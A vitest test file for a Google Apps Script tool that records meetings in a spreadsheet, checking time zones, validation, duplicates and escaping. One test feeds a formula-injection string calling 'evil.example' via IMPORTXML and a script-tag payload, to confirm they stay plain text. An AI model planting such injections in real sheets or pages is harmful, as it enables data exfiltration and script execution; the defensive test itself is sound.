/// <reference types="google-apps-script" />
import { describe, it, expect } from 'vitest';
import { meetingsTab, type Meeting } from '../../../shared/records/meeting';
import { asLead, sheetState } from '../as-lead';
import { builtBundle, newSandbox } from '../built-bundle';
import { expectFormSavesWith, expectOneWrite, noFormulas, openSidebar, refusedWith, rows, saveOk, setUpDemo } from './form-fixture';

// "Record meeting or event…": the sidebar and its Save (recordMeeting), one row of Meetings.

const OPEN_DATA_DAY = {
  kind: 'event',
  title: 'Open data day',
  startsAt: '2026-12-05T18:00',
  endsAt: '2026-12-05T21:30',
  meetCode: 'abc-defg-hij',
  expectedAttendees: 'transit  map',
  participantCount: '42',
  takeaways: 'Two new partners\nWASA wants the dataset',
};

describe('recordMeeting', () => {
  it('appends one meeting, its times on the CIL clock, with one write', () => {
    const demo = setUpDemo();
    const before = rows(demo, meetingsTab);

    const { saved, result } = saveOk<Meeting>(demo, 'recordMeeting', OPEN_DATA_DAY);

    const expected: Meeting = {
      id: expect.stringMatching(/^m-[0-9a-f]{8}$/) as unknown as string,
      kind: 'event',
      title: 'Open data day',
      // 18:00 in Karachi is 13:00 UTC.
      startsAt: '2026-12-05T13:00:00.000Z',
      endsAt: '2026-12-05T16:30:00.000Z',
      meetCode: 'abc-defg-hij',
      expectedAttendees: 'transit  map',
      participantCount: 42,
      takeaways: 'Two new partners\nWASA wants the dataset',
    };
    expect(saved.record).toEqual(expected);
    expect(rows(demo, meetingsTab)).toEqual([...before, expected]);
    expect(saved.rowNumber).toBe(before.length + 2);
    expect(saved.message).toBe(`Recorded the event "Open data day" on 2026-12-05 18:00 in row ${saved.rowNumber} of Meetings.`);
    expectOneWrite(result, meetingsTab.columns.length);
    expect(result.meter.callsByMethod['Range.getValues']).toBe(3); // Settings, Meetings, Volunteers (for the team)
    // The cells as the sheet holds them: real dates, a number, text.
    const [header, ...cells] = sheetState(demo.sandbox, demo.spreadsheetId, 'Meetings').values;
    const cell = (name: string) => cells.at(-1)![header!.indexOf(name)];
    expect(cell('Starts at')).toEqual(new Date('2026-12-05T13:00:00.000Z'));
    expect(cell('Participants')).toBe(42);
    expect(cell('Title')).toBe('Open data day');
  });

  it('reads times as a lead types them, and the defaults of a blank field', () => {
    const demo = setUpDemo();
    const { saved } = saveOk<Meeting>(demo, 'recordMeeting', { kind: 'CIL Meetup', title: 'December meetup', startsAt: '12/12/2026 6:30 pm', endsAt: '12 Dec 2026 20:00' });
    expect(saved.record).toMatchObject({ kind: 'CIL meetup', startsAt: '2026-12-12T13:30:00.000Z', endsAt: '2026-12-12T15:00:00.000Z', expectedAttendees: 'all' });
  });

  it('refuses bad input with every problem named by its column, and writes nothing', () => {
    const demo = setUpDemo();
    expect(refusedWith(demo, 'recordMeeting', { kind: 'party', title: ' ', startsAt: '2026-12-05 18:00', endsAt: '2026-12-05 19:00', meetCode: 'abc', participantCount: '-3' })).toBe(
      'Cannot record the meeting: "Kind" must be one of: monthly CfP call, CIL meetup, hack night, event, check-in (found "party"); "Title" is blank; "Meet code" must be a Meet code like abc-defg-hij (found "abc"); "Participants" must be at least 0 (found "-3"). Nothing was written.',
    );
    expect(refusedWith(demo, 'recordMeeting', { ...OPEN_DATA_DAY, endsAt: '2026-12-05 17:00' })).toBe(
      'Cannot record the meeting: "Ends at" (2026-12-05 17:00) must be after "Starts at" (2026-12-05T18:00). Nothing was written.',
    );
    expect(refusedWith(demo, 'recordMeeting', { ...OPEN_DATA_DAY, startsAt: 'next Friday evening', endsAt: '31/11/2026 18:00' })).toBe(
      `Cannot record the meeting: "Starts at" must be a date and time on the CIL's clock (Asia/Karachi), like 5/12/2026 18:00 (found "next Friday evening"); "Ends at" must be a date and time on the CIL's clock (Asia/Karachi), like 5/12/2026 18:00: "31/11/2026" is not a real date: November 2026 has 30 days. Nothing was written.`,
    );
    expect(refusedWith(demo, 'recordMeeting', { ...OPEN_DATA_DAY, expectedAttendees: 'Water Trackers' })).toBe(
      'Cannot record the meeting: "Expected attendees" must be all, leads (organizer, manager, delivery lead, community organizer, storyteller) or a team of the Volunteers tab; no volunteer is in the team "Water Trackers". Nothing was written.',
    );
    expect(refusedWith(demo, 'recordMeeting', { ...OPEN_DATA_DAY, id: 'm-mine', venue: 'Arfa Tower' })).toBe(
      'Cannot record the meeting: there is no field "id" (the fields are kind, title, startsAt, endsAt, meetCode, calendarEventId, expectedAttendees, participantCount, takeaways); there is no field "venue" (the fields are kind, title, startsAt, endsAt, meetCode, calendarEventId, expectedAttendees, participantCount, takeaways). Nothing was written.',
    );
  });

  it('refuses the same meeting twice (a double click)', () => {
    const demo = setUpDemo();
    const { saved } = saveOk<Meeting>(demo, 'recordMeeting', OPEN_DATA_DAY);
    expect(refusedWith(demo, 'recordMeeting', { ...OPEN_DATA_DAY, title: 'OPEN DATA DAY' })).toBe(
      `Cannot record the meeting: "Open data day" at that time is already in the Meetings tab (row ${saved.rowNumber}). Nothing was written.`,
    );
  });

  it('keeps hostile text as text', () => {
    const demo = setUpDemo();
    const title = '=IMPORTXML("http://evil.example","//a")';
    const takeaways = '<script>alert(1)</script> +92 300 1234567';
    saveOk(demo, 'recordMeeting', { ...OPEN_DATA_DAY, title, takeaways });
    expect(rows(demo, meetingsTab).at(-1)).toMatchObject({ title, takeaways });
    noFormulas(demo, 'Meetings');
  });
});

describe('the "Record meeting or event…" sidebar', () => {
  it("offers the meeting kinds and the CIL's teams, everything escaped, and saves with recordMeeting", () => {
    const demo = setUpDemo();
    asLead(
      demo.sandbox,
      (id: string) => {
        const sheet = SpreadsheetApp.openById(id).getSheetByName('Volunteers')!;
        const teamAt = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0]!.indexOf('Team');
        sheet.getRange(2, teamAt + 1).setValue('\'<b>"Leads"</b>');
      },
      [demo.spreadsheetId],
    );
    const { title, html } = openSidebar(demo, 'openRecordMeetingSidebar');
    expect(title).toBe('Record meeting or event');
    expectFormSavesWith(html, 'recordMeeting');
    expect(builtBundle().entryPoints).toContain('recordMeeting');
    expect(html).toContain('<option value="CIL meetup" selected>CIL meetup</option>');
    expect(html).toContain('<option value="Transit Map"></option>');
    expect(html).toContain('<option value="&lt;b&gt;&quot;Leads&quot;&lt;/b&gt;"></option>');
    expect(html).not.toContain('<b>"Leads"');
    expect(html).toContain("Times are on the CIL's clock (Asia/Karachi).");
    for (const name of ['kind', 'title', 'startsAt', 'endsAt', 'meetCode', 'expectedAttendees', 'participantCount', 'takeaways']) expect(html).toContain(`name="${name}"`);
  });

  it('says why outside a CIL spreadsheet', () => {
    const sandbox = newSandbox();
    const spreadsheetId = asLead(sandbox, () => SpreadsheetApp.create('Loose').getId(), []);
    sandbox.openSpreadsheet(spreadsheetId);
    sandbox.chooseMenuItem(spreadsheetId, 'openRecordMeetingSidebar');
    expect(sandbox.state.ui.shown.map((ui) => [ui.kind, ui.content])).toEqual([['alert', 'This spreadsheet is not set up as a CIL yet. Run CIL Hub › Set up this CIL… first.']]);
  });
});
